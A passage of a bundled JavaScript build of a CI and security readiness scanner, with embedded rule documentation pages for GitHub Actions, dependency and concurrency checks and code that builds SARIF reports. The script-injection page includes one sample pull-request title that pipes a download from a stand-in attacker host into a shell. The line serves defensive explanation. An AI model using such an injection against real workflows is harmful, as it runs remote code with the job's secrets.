var unguarded_shared_state_default = '# unguarded-shared-state\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | code-health | 180 min | `src/checks/unguarded-shared-state/` |\n\nA Python class whose coroutines mutate shared instance state without a lock.\n**A heuristic**: it reads the class, not how many tasks share an instance; the\nmessage says so.\n\n## What is detected\n\nIn each Python file\'s syntax tree (tree-sitter), a class whose `async` methods\n**await** (so other coroutines run in between) and, in the same method, mutate\ninstance state in place:\n\n- `self._cache[k] = v`\n- `self.metrics["hits"] += 1`, `self.count += 1`\n- `del self._cache[k]`\n\nwith no lock held there: not inside `async with self._lock:` / `with self._lock:`\n(an attribute assigned `asyncio.Lock()`, `threading.Lock()`, `RLock()`,\n`Semaphore()`, `Condition()`, or named like a lock), and without\n`await self._lock.acquire()` in the method. One finding per class, at its first\nsuch mutation, listing the attributes and methods.\n\n```python\nclass Cache:\n    async def get(self, k):\n        if k not in self._cache:\n            self._cache[k] = await load(k)   # P1: check, await, then write\n        return self._cache[k]\n```\n\n## Why it matters\n\nTwo requests interleave at every `await`: both miss the cache and load twice,\ncounters lose increments, an eviction removes an entry another coroutine is\nabout to read (KeyError). It passes every single-request test.\n\n## How to fix\n\nHold an `asyncio.Lock` across the read-modify-write, make the update atomic (no\nawait between the read and the write), or keep the state per request.\n\n## Not detected (near-misses)\n\n| code | why it is not a finding |\n|---|---|\n| the mutation inside `async with self._lock:` / `with self._lock:` | a lock is held |\n| `await self._guard.acquire()` ... `release()` | a lock is held |\n| an async method that never awaits | runs without interruption in one event loop |\n| a plain (`def`) method | not a coroutine |\n| `d = {}; d[k] = await x()` | local state |\n| code in tests, scripts, docs and examples | not runtime code |\n\nNot detected: check-then-get across methods, mutation through method calls\n(`self._cache.pop(k)`, `.update()`), module-level dicts, threads without async.\n\n## Example finding\n\n> **P1 unguarded-shared-state** `app/cache.py:7`\n> Class `Cache`: async methods that await also mutate shared instance state (self._cache,\n> self.metrics in evict, get) with no lock held (a heuristic reading of this class): coroutines\n> interleave at each await, so concurrent calls can lose updates or read half-updated entries.\n\n## How to suppress\n\nAn inline `# readiness-gate-ignore unguarded-shared-state: reason` on the line,\nor a configured suppression with a reason.\n';

// raw:rules/checks/vulnerable-dependency.md
var vulnerable_dependency_default = "# vulnerable-dependency\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** (critical/high) / **P1** (medium) / **P2** (low or unknown) | supply-chain | 30 min | `src/checks/vulnerable-dependency/` |\n\nAn SBOM component with a known vulnerability in [OSV](https://osv.dev).\n\n## What is detected\n\nEvery component of the SBOM whose ecosystem OSV knows (npm, PyPI, Go, crates.io,\nMaven, RubyGems, Packagist, NuGet) is looked up with OSV's batch query API\n(`POST {osv-url}/v1/querybatch`, 1,000 purls per request, pages followed), then\neach advisory's details (`GET {osv-url}/v1/vulns/{id}`), at most 8 at a time.\nOne finding per vulnerable component, on the lockfile (and line, where the\nformat gives one), naming:\n\n- the advisory IDs (with the CVE alias when there is one);\n- the severity: computed from the CVSS v3 vector when the advisory has one,\n  else the database's label (GitHub's CRITICAL/HIGH/MODERATE/LOW);\n  critical and high are P0, medium P1, low and unknown P2;\n- the first fixed version above the installed one (compared with the\n  ecosystem's own ordering: PEP 440 for PyPI, semver otherwise).\n\nPrivate packages are never sent: packages of the repository itself, names\nmatching the `private-packages` input, npm scopes and NuGet patterns configured\nto a private registry, and packages the lockfile shows resolved from a registry\nthat is not the ecosystem's public one (the README's \"What is sent to OSV\" has\nthe rules). They stay in the SBOM and are not checked; the summary and the JSON\nreport (`sbom.vulnerabilities.withheld`) count them per reason.\n\nThe lookup is time-limited (15 s per request, 60 s in all, and the run's 5 s\nfor services that do not answer, shared with the GitHub API). When OSV cannot be\nreached, the rule reports nothing, says it *could not tell* (with the reason,\nalso printed as a notice), and the rest of the run goes on.\n\n## When it is proven\n\nA finding is `proven` when the advisory database (OSV at `osv-url`) lists the installed version of an SBOM component as affected. Its severity follows the worst advisory (CVSS v3 vector, else the database's label): critical or high is P0 (`vulnerable`), medium P1 (`vulnerableMedium`), low or unknown P2 (`vulnerableLow`).\n\n- **Likely:** never; a case the rule cannot prove is not reported at all. When OSV cannot be reached the rule is inconclusive and reports nothing.\n- **Where the file lives** does not change it: the finding keeps its severity in every class of file (test, tooling, docs, example...).\n\n## Why it matters\n\nA dependency with a published vulnerability is the easiest attack path into a\nservice: exploits follow the advisories within days.\n\n## How to fix\n\nUpgrade to the fixed version named in the message (widen the manifest's range\nif it excludes it, then regenerate the lockfile). For a transitive dependency,\nupgrade the package that pulls it in, or pin it with `overrides` (npm),\n`resolutions` (yarn), `pnpm.overrides`, a `constraints.txt`... If the\nvulnerable code is provably unreachable, suppress with that reason.\n\n## Configuration\n\n- `vulnerability-scan: off` turns the lookup off (the rule is then *not\n  applicable*).\n- `osv-url` points at a mirror or, in tests, a local server.\n\n## Not detected (near-misses)\n\n- GitHub Actions and container images: OSV has no purl ecosystem for them.\n- Git dependencies (components with a `vcs_url` qualifier): registry advisories do not describe a\n  fork installed from a repository. Path dependencies are not components (the SBOM section of the\n  summary lists them as skipped).\n- Components without a version, such as Maven dependencies whose version is managed by a parent\n  pom or BOM outside the repository: OSV cannot match a version it is not given.\n- Advisories withdrawn by OSV.\n\n## Example finding\n\n> **P0 vulnerable-dependency** `package-lock.json`\n> lodash@4.17.20 has 1 known advisory (critical): GHSA-aaaa-bbbb-cccc\n> (CVE-2024-0001). First fixed version: 4.17.21.\n\n## How to suppress\n\nA configuration suppression with the reason and an expiry date, so the\nfinding returns if the upgrade never happens:\n`{ rule: vulnerable-dependency, path: package-lock.json, reason: \"not reachable: server-side only\", expires: 2027-01-31 }`.\n";

// raw:rules/checks/workflow-disabled-job.md
var workflow_disabled_job_default = "# workflow-disabled-job\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** deploy-like / **P1** other | security | 30 min | `src/checks/workflow-disabled-job/` |\n\nA GitHub Actions job or step switched off with a condition that can never be true.\n\n## What is detected\n\n- A job or step whose `if:` is constantly false, however it is spelled. The condition is parsed as a GitHub Actions expression (`src/analysis/expressions.ts`: literals, `! < <= > >= == != && ||`, property and index access, function calls) and folded: contexts (`github.*`, `env.*`, `needs.*`, `inputs.*`, `vars.*`...) and the status functions (`success()`, `always()`, `failure()`, `cancelled()`) are unknown, everything else is computed with GitHub's rules (loose `==`: numbers against strings compared as numbers, strings case-insensitively; `&&`/`||` return an operand). So `if: false`, `if: ${{ false }}`, `if: 'false'` (GitHub evaluates `if:` as an expression with or without `${{ }}`), `if: 0`, `if: 0x0`, `if: 1 == 2`, `if: \"'a' == 'b'\"`, `if: ${{ fromJSON('false') }}`, `if: github.ref == 'x' && false`, `if: always() && false`, `if: ${{ !true }}` are all reported. The finding points at the `if:` line.\n- Through YAML anchors and aliases: `if: *off` (with `&off false` elsewhere), a whole job written as `deploy: *job`, or merged with `<<: *job`; the finding points where the alias is used.\n- **P0** when the job or step is *deploy-like*: its id or name mentions deploy, release, publish, rollout, promote, production; its commands run `kubectl apply`, `helm upgrade`, `terraform apply`, `gcloud run deploy`, `argocd app sync`...; it uses a deploy action; its job has an `environment:`; or a deploy-like job `needs` it (switching off the image build switches off every deploy after it). **P1** otherwise.\n- A switched-off job's steps are not reported again.\n- Steps of a `parallel:` group (GitHub Actions parallel steps) are steps like any other, named by their place (`#2.3`: the third step of the group that is the job's second step); a condition on the group holds for its steps that have none of their own.\n\nWith `path:` set to a subfolder, the repository root's workflows are judged too, for the jobs that concern the folder ([A subfolder scan](../README.md#a-subfolder-scan-path-servicesapi)); a workflow filtered to another folder, or a job working in another folder, is not. Findings there are at `../../.github/workflows/<file>` in the JSON report, and at the repository's `.github/workflows/<file>` in annotations, SARIF and the summary's links.\n\n## When it is proven\n\nA finding is `proven` when the job's or step's `if:` is a constant that GitHub evaluates to false (`false`, `${{ false }}`, `'false'`, `0`). It is P0 when the job or step is deploy-like (`jobDeploy`, `stepDeploy`): its id, name or commands deploy, it has (or its job has) an `environment`, or a deploy-like job `needs` it; any other switched-off job or step is P1 (`job`, `step`).\n\n- **Likely:** never; a case the rule cannot prove is not reported at all.\n- **Where the file lives** does not change it: the finding keeps its severity in every class of file (test, tooling, docs, example...).\n\n## Why it matters\n\nA deploy job switched off \"for a minute\" stays off: the main branch keeps moving, nothing ships, and nobody notices because the workflow is green. A switched-off test or scan job is a gate removed without a trace in review.\n\n## How to fix\n\nDelete the job if it is obsolete, or restore a real condition:\n\n```yaml\ndeploy:\n  if: github.ref == 'refs/heads/main'\n  environment: production   # pause deploys with required reviewers, not with `if: false`\n```\n\nTo pause deployments temporarily, use a protected environment or a repository variable (`if: vars.DEPLOY_ENABLED == 'true'`), which is visible in the settings.\n\n## Not detected (near-misses)\n\n- Real conditions: `github.ref == 'refs/heads/main'`, `always()`, `${{ !cancelled() }}`, `false || github.event_name == 'push'`, `vars.DEPLOY_ENABLED == 'true'`, `${{ 'false' }}` (a non-empty string literal is truthy), `\"'x' == 'X'\"` (true: strings compare case-insensitively), `\"${{ false }} \"` (text around `${{ }}` makes a non-empty string).\n- Conditions that are not valid expressions (`if: FALSE`: keywords are lower case; an unclosed `${{`): GitHub rejects the workflow, which is not this rule's finding.\n- Expressions longer than GitHub's 21,000 characters or nested deeper than 64 levels, and YAML aliases that would expand past 100,000 nodes (the file is then listed as malformed).\n- Jobs skipped by `on:` filters or matrix exclusions.\n- Workflows disabled in the GitHub UI (not visible in the repository).\n- Other CI systems (GitLab `when: never`, ...).\n\n## Example findings\n\n> **P0 workflow-disabled-job** `.github/workflows/deploy.yml:7`\n> Job `deploy` of .github/workflows/deploy.yml is switched off with `if: false`: it never runs — it deploys to environment `production`.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore workflow-disabled-job: <why this is safe>`; or in the configuration file, with a reason: `{ rule: workflow-disabled-job, path: \"...\", reason: \"...\" }`; or turn the rule off: `rules: { workflow-disabled-job: off }`.\n";

// raw:rules/checks/workflow-masked-failure.md
var workflow_masked_failure_default = '# workflow-masked-failure\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | security | 15 min | `src/checks/workflow-masked-failure/` |\n\nA test, security scan, linter or type checker that runs in CI but cannot fail its step.\n\n## What is detected\n\nIn `run:` scripts split into commands (quotes, continuations, `|`/`>` blocks, heredocs and comments understood), a command that is a security scanner (bandit, safety, pip-audit, npm/yarn/pnpm audit, trivy, grype, gitleaks, semgrep, snyk, gosec, govulncheck, checkov, ...), a test runner (pytest, jest, vitest, go test, mvn verify, npm test, `scripts/test.sh`, ...), a linter (eslint, ruff, flake8, golangci-lint, ...) or a type checker (mypy, tsc, pyright, ...) whose failure is swallowed:\n\n- `cmd || true`, `cmd || :`, `cmd || exit 0`, `cmd || echo ...` (also later in the same `&&`/`||` list: `cmd && x || true`);\n- a flag that makes the tool exit 0: `--exit-zero`, gosec `-no-fail`, checkov `--soft-fail`, `--continue-on-error`, `--exit-code 0`, `--audit-level none`;\n- `set +e` (errexit off) with the command not last, including `cmd; true`;\n- `continue-on-error: true` on the step or its job.\n\nThe finding points at the command\'s line. The check also fills the **security scans in CI** gap row: `present`, `partial` (some scans masked), `disabled` (all masked) or `missing`.\n\nWith `path:` set to a subfolder, the repository root\'s workflows are judged too, for the jobs that concern the folder ([A subfolder scan](../README.md#a-subfolder-scan-path-servicesapi)); a workflow filtered to another folder, or a job working in another folder, is not. Findings there are at `../../.github/workflows/<file>` in the JSON report, and at the repository\'s `.github/workflows/<file>` in annotations, SARIF and the summary\'s links.\n\n## Why it matters\n\nThe check still runs and the log looks busy, but a red result no longer stops the merge or the release: vulnerabilities and failing tests ship with a green build.\n\n## How to fix\n\nRemove the mask so a failure fails the job; tolerate known findings in the tool itself, with a reason:\n\n```yaml\n- run: bandit -r app -c pyproject.toml   # baseline/skips configured there\n```\n\n## Not detected (near-misses)\n\n- Cleanup: `kill $PID || true`, `rm -f x || true`, `docker rm -f db || true` — they are not checks.\n- `pytest; true` under GitHub\'s default shell (`bash -e`): the step already failed at `pytest`.\n- `cmd || { echo "failed"; exit 1; }`: it still fails.\n- Text that only mentions a tool (`echo "pytest || true"`, heredoc bodies).\n- `continue-on-error` on a step that is not a check (uploads, notifications).\n\n## Example findings\n\n> **P1 workflow-masked-failure** `.github/workflows/ci.yml:12`\n> The security scan `bandit -r app` in job `test` of .github/workflows/ci.yml cannot fail the build (|| true): its failures are ignored.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore workflow-masked-failure: <why this is safe>`; or in the configuration file, with a reason: `{ rule: workflow-masked-failure, path: "...", reason: "..." }`; or turn the rule off: `rules: { workflow-masked-failure: off }`.\n';

// raw:rules/checks/workflow-permissions.md
var workflow_permissions_default = "# workflow-permissions\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P2** | security | 10 min | `src/checks/workflow-permissions/` |\n\nA workflow whose `GITHUB_TOKEN` is not limited to what it needs.\n\n## What is detected\n\n- A workflow with jobs and no top-level `permissions:` block, unless every job sets its own. The finding is on the file, with no line.\n- `permissions: write-all`, at the top level or on a job, at its line.\n\nWith `path:` set to a subfolder, the repository root's workflows are judged too, for the jobs that concern the folder ([A subfolder scan](../README.md#a-subfolder-scan-path-servicesapi)); a workflow filtered to another folder, or a job working in another folder, is not. Findings there are at `../../.github/workflows/<file>` in the JSON report, and at the repository's `.github/workflows/<file>` in annotations, SARIF and the summary's links.\n\n## Why it matters\n\nWithout a block the token gets the repository or organisation default, often read/write on contents, packages, deployments and more. Any compromised step or action can then push code, publish packages or approve pull requests.\n\n## How to fix\n\n```yaml\npermissions:\n  contents: read\njobs:\n  publish:\n    permissions:\n      contents: read\n      packages: write\n```\n\n## Not detected (near-misses)\n\n- `read-all`, a scoped map, or an empty block (`permissions: {}`).\n- A workflow where every job sets `permissions:`.\n- A reusable workflow (`on: workflow_call` only): it runs with its caller's token, judged in the caller.\n\n## Example findings\n\n> **P2 workflow-permissions** `.github/workflows/deploy.yml:5`\n> The top-level `permissions:` of .github/workflows/deploy.yml grants `write-all`: every step, and every action it runs, can write to the repository, packages, deployments and more.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore workflow-permissions: <why this is safe>`; or in the configuration file, with a reason: `{ rule: workflow-permissions, path: \"...\", reason: \"...\" }`; or turn the rule off: `rules: { workflow-permissions: off }`.\n";

// raw:rules/checks/workflow-script-injection.md
var workflow_script_injection_default = "# workflow-script-injection\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | security | 30 min | `src/checks/workflow-script-injection/` |\n\nAn attacker-controlled event field expanded with `${{ }}` straight into a script.\n\n## What is detected\n\n`${{ <expr> }}` inside a `run:` script, or inside the `script:` of `actions/github-script`, where `<expr>` reads an untrusted field: `github.event.issue.title|body`, `github.event.pull_request.title|body|head.ref|head.label|head.repo.default_branch`, `github.event.comment.body`, `github.event.review.body`, `github.event.review_comment.body`, `github.event.discussion.title|body`, `github.event.pages.*.page_name`, `github.event.commits.*.message|author.email|author.name`, `github.event.head_commit.*`, `github.event.workflow_run.head_branch|head_commit.*`, `github.head_ref`. The finding points at the expression's line.\n\nWith `path:` set to a subfolder, the repository root's workflows are judged too, for the jobs that concern the folder ([A subfolder scan](../README.md#a-subfolder-scan-path-servicesapi)); a workflow filtered to another folder, or a job working in another folder, is not. Findings there are at `../../.github/workflows/<file>` in the JSON report, and at the repository's `.github/workflows/<file>` in annotations, SARIF and the summary's links.\n\n## Why it matters\n\nGitHub substitutes the text *before* the shell parses the script: a pull-request title like `\"; curl https://evil.example/x | sh #` runs as code in the job, with its token and secrets (especially under `pull_request_target` and `issue_comment`).\n\n## How to fix\n\nPass the value through an environment variable and quote it:\n\n```yaml\n- env:\n    TITLE: ${{ github.event.pull_request.title }}\n  run: echo \"$TITLE\"\n```\n\n## Not detected (near-misses)\n\n- An expression whose value cannot be text: a negation, a comparison, or a call\n  that returns a boolean or a hash (`${{ !contains(github.head_ref, 'release') }}`\n  expands to `true` or `false`). `||`, `&&` and `format()` return their operands'\n  text and stay reported.\n- A field that no trigger of the workflow sets: `github.event.workflow_run.*`\n  only on `workflow_run`, `github.head_ref` only on pull request events,\n  `github.event.issue.*` only on issue events, and so on. A reusable workflow\n  (`workflow_call`) runs with its caller's event: every field counts there.\n- Values passed through `env:` or as `with:` inputs of an action (the action receives a string, not shell code).\n- Trusted fields: `github.sha`, `github.ref_name`, `github.event.issue.number`, `inputs.*` (given by people with write access).\n- Expressions outside `${{ }}`.\n\n## Example findings\n\n> **P1 workflow-script-injection** `.github/workflows/ci.yml:30`\n> `${{ github.event.pull_request.title }}` is expanded into the run script of job `test` in .github/workflows/ci.yml: anyone who controls that field can run code in the job, with its token and secrets.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore workflow-script-injection: <why this is safe>`; or in the configuration file, with a reason: `{ rule: workflow-script-injection, path: \"...\", reason: \"...\" }`; or turn the rule off: `rules: { workflow-script-injection: off }`.\n";

// raw:rules/checks/workflow-unpinned-action.md
var workflow_unpinned_action_default = "# workflow-unpinned-action\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P2** | security | 10 min | `src/checks/workflow-unpinned-action/` |\n\nA third-party action or reusable workflow referenced by a mutable tag or branch instead of a commit SHA.\n\n## What is detected\n\nEvery `uses:` of a step (`owner/repo[/path]@ref`) and of a job calling a reusable workflow (`owner/repo/.github/workflows/x.yml@ref`) whose `ref` is not a full 40-character commit SHA, or that has no ref. First-party `actions/*` and `github/*` are excepted, as the catalogue says. The finding points at the `uses:` line.\n\nWith `path:` set to a subfolder, the repository root's workflows are judged too, for the jobs that concern the folder ([A subfolder scan](../README.md#a-subfolder-scan-path-servicesapi)); a workflow filtered to another folder, or a job working in another folder, is not. Findings there are at `../../.github/workflows/<file>` in the JSON report, and at the repository's `.github/workflows/<file>` in annotations, SARIF and the summary's links.\n\n## Why it matters\n\nTags and branches move. Whoever controls the action's repository (or steals its maintainer's token, as in the tj-actions/changed-files incident) controls what runs in your workflow, with your token and secrets.\n\n## How to fix\n\nPin the full SHA and keep the version as a comment; Dependabot (`package-ecosystem: github-actions`) or Renovate keep the pins current:\n\n```yaml\n- uses: docker/build-push-action@4f58ea79222b3b9dc2c8bbdd6debcef730109a75 # v6.9.0\n```\n\n## Not detected (near-misses)\n\n- `actions/*` and `github/*` actions.\n- Local actions and workflows (`./.github/actions/setup`).\n- `docker://` images (pin them with a digest anyway).\n\n## Example findings\n\n> **P2 workflow-unpinned-action** `.github/workflows/deploy.yml:12`\n> `azure/setup-helm@v4` in .github/workflows/deploy.yml is pinned to `v4`, a mutable tag or branch: the code that runs can change without a commit here.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore workflow-unpinned-action: <why this is safe>`; or in the configuration file, with a reason: `{ rule: workflow-unpinned-action, path: \"...\", reason: \"...\" }`; or turn the rule off: `rules: { workflow-unpinned-action: off }`.\n";

// src/report/rule-pages.ts
var RULE_PAGES = {
  "branch-protection-missing": branch_protection_missing_default,
  "build-error": build_error_default,
  "coverage-below-threshold": coverage_below_threshold_default,
  "coverage-report-missing": coverage_report_missing_default,
  "dependency-version-conflict": dependency_version_conflict_default,
  "docker-outdated-base-image": docker_outdated_base_image_default,
  "docker-unpinned-base-image": docker_unpinned_base_image_default,
  "go-duplicate-declaration": go_duplicate_declaration_default,
  "hardcoded-password": hardcoded_password_default,
  "hardcoded-secret": hardcoded_secret_default,
  "http-call-without-timeout": http_call_without_timeout_default,
  "js-unresolved-import": js_unresolved_import_default,
  "k8s-ingress-without-tls": k8s_ingress_without_tls_default,
  "k8s-missing-probes": k8s_missing_probes_default,
  "k8s-probe-route-mismatch": k8s_probe_route_mismatch_default,
  "license-denied": license_denied_default,
  "lockfile-out-of-sync": lockfile_out_of_sync_default,
  "merge-conflict-marker": merge_conflict_marker_default,
  "no-alerting-rules": no_alerting_rules_default,
  "no-ci-tests": no_ci_tests_default,
  "no-codeowners": no_codeowners_default,
  "no-deploy-pipeline": no_deploy_pipeline_default,
  "no-deployment-manifest": no_deployment_manifest_default,
  "no-health-endpoint": no_health_endpoint_default,
  "no-metrics": no_metrics_default,
  "no-runbook": no_runbook_default,
  "python-unresolved-import": python_unresolved_import_default,
  "readiness-claim-contradicted": readiness_claim_contradicted_default,
  "suppression-without-reason": suppression_without_reason_default,
  "telemetry-not-initialized": telemetry_not_initialized_default,
  "test-failure": test_failure_default,
  "test-flaky": test_flaky_default,
  "test-reports-missing": test_reports_missing_default,
  "todo-debt": todo_debt_default,
  "type-annotation-coverage": type_annotation_coverage_default,
  "unclosed-resource": unclosed_resource_default,
  "undeclared-dependency": undeclared_dependency_default,
  "unguarded-shared-state": unguarded_shared_state_default,
  "vulnerable-dependency": vulnerable_dependency_default,
  "workflow-disabled-job": workflow_disabled_job_default,
  "workflow-masked-failure": workflow_masked_failure_default,
  "workflow-permissions": workflow_permissions_default,
  "workflow-script-injection": workflow_script_injection_default,
  "workflow-unpinned-action": workflow_unpinned_action_default
};

// src/report/sarif-security.ts
var NOT_SHIPPED = /* @__PURE__ */ new Set(["test", "docs", "example"]);
var ADVISORY = {
  critical: { score: 9.5, variant: "critical", label: "critical advisory" },
  high: { score: 8, variant: "high", label: "high-severity advisory" },
  medium: { score: 5.5, variant: "medium", label: "medium-severity advisory" },
  low: { score: 2.5, variant: "low", label: "low-severity advisory" },
  unknown: { score: 5, variant: "unknown", label: "advisory without a severity" }
};
var SECURITY_CALIBRATION = {
  // A credential in its provider's format is readable by everyone who reads the repository or its
  // history: high. Proven live by its own text (a checksum, a live-mode key, a key pair): critical.
  // Likely (a Firebase client key, a name that says fake): medium, the value may still work.
  "hardcoded-secret": (f) => f.messageId === "secretLive" ? { score: 9.5, variant: "live", label: "proven live" } : f.certainty === "likely" ? { score: 5, variant: "likely", label: "likely not a live credential" } : { score: 8.5 },
  // A literal assigned to a credential name, of unknown validity: medium where it ships; in tests,
  // docs and examples it is a fixture far more often than a password that works: low.
  "hardcoded-password": (f) => NOT_SHIPPED.has(f.fileClass) ? { score: 2, variant: "test-or-docs", label: "in tests, docs or examples" } : { score: 5.5 },
  // The advisory database's own severity of the worst advisory; a finding without one is medium.
  "vulnerable-dependency": (f) => ADVISORY[String(f.data.severity ?? "unknown")] ?? ADVISORY.unknown,
  // Whoever controls the field runs code in the job, with its token and secrets.
  "workflow-script-injection": () => ({ score: 8.8 }),
  // `write-all` hands every step and action write access; a missing block inherits the repository
  // default, read-only on repositories created since 2023.
  "workflow-permissions": (f) => f.messageId === "writeAll" ? { score: 6, variant: "write-all", label: "write-all" } : { score: 4 },
  // A moved tag runs someone else's new code with the job's token (tj-actions/changed-files, 2025).
  "workflow-unpinned-action": () => ({ score: 5.5 }),
  // The production image's base can change under a rebuild; a registry compromise reaches production.
  "docker-unpinned-base-image": () => ({ score: 4 }),
  // An end-of-life base gets no security fixes: its known vulnerabilities stay.
  "docker-outdated-base-image": () => ({ score: 5 }),
  // Credentials and cookies in clear text on the network (CWE-319).
  "k8s-ingress-without-tls": () => ({ score: 7.5 }),
  // A security scan that cannot fail lets what it finds through; a muted test run or lint says nothing about security.
  "workflow-masked-failure": (f) => f.data.kind === "security scan" ? { score: 5, variant: "security-scan", label: "security scan" } : null,
  // Unreviewed code can reach the default branch, and its history can be rewritten.
  "branch-protection-missing": () => ({ score: 5 })
};
function securityOf(f) {
  return SECURITY_CALIBRATION[f.ruleId]?.(f) ?? null;
}
function securitySeverityText(score) {
  return score.toFixed(1);
}

// src/report/sarif.ts
var SARIF_SCHEMA = "https://json.schemastore.org/sarif-2.1.0.json";
var MAX_RESULTS = 25e3;
var FINGERPRINT_KEY = "readinessGate/v1";
var LEVEL = { P0: "error", P1: "warning", P2: "note" };
var PROBLEM_SEVERITY = { P0: "error", P1: "warning", P2: "recommendation" };
var SEVERITY_MEANING = {
  P0: "P0 (blocker): must be fixed before production; fails the gate by default.",
  P1: "P1 (high): should be fixed before release.",
  P2: "P2 (medium): can follow the release."
};
function renderSarif(r) {
  return `${JSON.stringify(buildSarif(r), null, 2)}
`;
}
function buildSarif(r) {
  const securityOnly = r.options.sarifRules !== "all";
  const candidates = [];
  for (const f of [...r.findings, ...r.suppressed]) {
    const security = securityOf(f);
    if (securityOnly && security === null) continue;
    candidates.push({ f, d: { id: security?.variant ? `${f.ruleId}/${security.variant}` : f.ruleId, ruleId: f.ruleId, security } });
  }
  const kept = candidates.slice(0, MAX_RESULTS);
  const omitted = candidates.length - kept.length;
  const descriptors = /* @__PURE__ */ new Map();
  for (const { d } of kept) if (!descriptors.has(d.id)) descriptors.set(d.id, d);
  const ids = [...descriptors.keys()].sort();
  const index = new Map(ids.map((id, i) => [id, i]));
  const remediation = /* @__PURE__ */ new Map();
  for (const { f } of kept) if (!remediation.has(f.ruleId)) remediation.set(f.ruleId, f.remediation);
  const prefix = r.links?.prefix;
  const notifications = r.outcomes.filter((o) => o.status === "error" || o.status === "inconclusive").filter((o) => !securityOnly || isSecurityRule(r.rules[o.ruleId])).map((o) => ({
    level: o.status === "error" ? "error" : "warning",
    message: { text: `${o.ruleId}: ${o.status === "error" ? "the check failed to run" : "the check could not tell"}${o.reason ? `: ${o.reason}` : ""}` },
    associatedRule: { id: o.ruleId }
  }));
  return {
    $schema: SARIF_SCHEMA,
    version: "2.1.0",
    runs: [
      {
        tool: {
          driver: {
            name: r.tool.name,
            version: r.tool.version,
            semanticVersion: r.tool.version,
            informationUri: r.tool.informationUri,
            rules: ids.map((id) => rule(descriptors.get(id), r.rules[descriptors.get(id).ruleId], r.tool.informationUri, remediation.get(descriptors.get(id).ruleId) ?? ""))
          }
        },
        // Only when asked: upload-sarif ignores its own `category` input when the file sets one.
        ...r.options.sarifCategory !== void 0 ? { automationDetails: { id: automationId(r.options.sarifCategory) } } : {},
        // Columns are JavaScript string offsets.
        columnKind: "utf16CodeUnits",
        invocations: [{ executionSuccessful: true, ...notifications.length > 0 ? { toolExecutionNotifications: notifications } : {} }],
        results: kept.map(({ f, d }) => result(f, d.id, index.get(d.id), prefix)),
        properties: {
          blocked: r.verdict.blocked,
          reasons: [...r.verdict.reasons],
          score: r.score.value,
          grade: r.score.grade,
          sarifRules: securityOnly ? "security" : "all",
          ...omitted > 0 ? { omittedResults: omitted } : {}
        }
      }
    ]
  };
}
function automationId(category) {
  return category.endsWith("/") ? category : `${category}/`;
}
function isSecurityRule(meta) {
  return meta?.tags?.includes("security") ?? false;
}
function rule(d, meta, informationUri, remediation) {
  const spec = meta ?? {
    area: "build",
    severity: "P1",
    title: d.ruleId,
    precision: "high",
    tags: [],
    certainty: "proven"
  };
  const docs = ruleDocUrl(informationUri, d.ruleId);
  const security = d.security;
  const title = security?.label ? `${spec.title} (${security.label})` : spec.title;
  const meaning = SEVERITY_MEANING[spec.severity];
  const page = RULE_PAGES[d.ruleId];
  const markdown = page ? absoluteLinks(page, docs) : [`**${spec.title}** (\`${d.ruleId}\`, area \`${spec.area}\`)`, `Default severity ${meaning}`, remediation ? `**How to fix:** ${remediation}` : "", `[Documentation](${docs})`].filter(Boolean).join("\n\n");
  return {
    id: d.id,
    name: pascalCase(d.id),
    shortDescription: { text: cap(title, 1024) },
    fullDescription: { text: cap(`${title}. Area: ${spec.area}. Default severity ${meaning}`, 1024) },
    helpUri: docs,
    help: { text: plainText(markdown), markdown },
    defaultConfiguration: { level: LEVEL[spec.severity] },
    properties: {
      // Tagged `security` exactly when GitHub counts the rule as one: when it carries a
      // security-severity (so the area `security` of a rule such as workflow-disabled-job is no tag).
      tags: [.../* @__PURE__ */ new Set([spec.area, ...spec.tags ?? []])].filter((t) => t !== "security").concat(security ? ["security"] : []),
      precision: spec.precision,
      // The rule's default certainty (each result says its own in properties.certainty), and for a
      // rule that can block, what proves such a finding.
      certainty: spec.certainty,
      ...spec.proof ? { proof: spec.proof } : {},
      "problem.severity": PROBLEM_SEVERITY[spec.severity],
      ...security ? { "security-severity": securitySeverityText(security.score) } : {}
    }
  };
}
function absoluteLinks(markdown, pageUrl) {
  return markdown.replace(/\]\(([^()\s]{1,500})\)/g, (whole, target) => {
    if (/^[a-z][a-z0-9+.-]*:/i.test(target)) return whole;
    try {
      return `](${new URL(target, pageUrl).href})`;
    } catch {
      return whole;
    }
  });
}
function plainText(markdown) {
  const out = [];
  let fenced = false;
  for (const line of markdown.split("\n")) {
    if (/^\s*```/.test(line)) {
      fenced = !fenced;
      continue;
    }
    out.push(
      fenced ? line : line.replace(/^#{1,6}\s+/, "").replace(/\[([^\]\n]{0,500})\]\(([^()\s]{1,500})\)/g, "$1 ($2)").replace(/\*\*([^*\n]{1,500})\*\*/g, "$1").replace(/`([^`\n]{1,500})`/g, "$1")
    );
  }
  return out.join("\n");
}
function result(f, ruleId, ruleIndex, prefix) {
  return {
    ruleId,
    ruleIndex,
    level: LEVEL[f.severity],
    message: { text: f.message },
    locations: [{ physicalLocation: physicalLocation(f.location, prefix) }],
    ...f.related !== void 0 && f.related.length > 0 ? { relatedLocations: f.related.map((l, i) => ({ id: i + 1, physicalLocation: physicalLocation(l, prefix) })) } : {},
    partialFingerprints: { [FINGERPRINT_KEY]: f.fingerprint },
    ...f.baseline ? { baselineState: f.baseline === "new" ? "new" : "unchanged" } : {},
    ...f.suppressed ? {
      suppressions: [
        {
          kind: f.suppressed.source === "inline" ? "inSource" : "external",
          status: "accepted",
          justification: f.suppressed.reason
        }
      ]
    } : {},
    properties: {
      severity: f.severity,
      certainty: f.certainty,
      messageId: f.messageId,
      ...f.gap !== void 0 ? { gap: f.gap } : {},
      ...f.fileClass !== void 0 ? { fileClass: f.fileClass } : {},
      area: f.area,
      effortMinutes: f.effortMinutes,
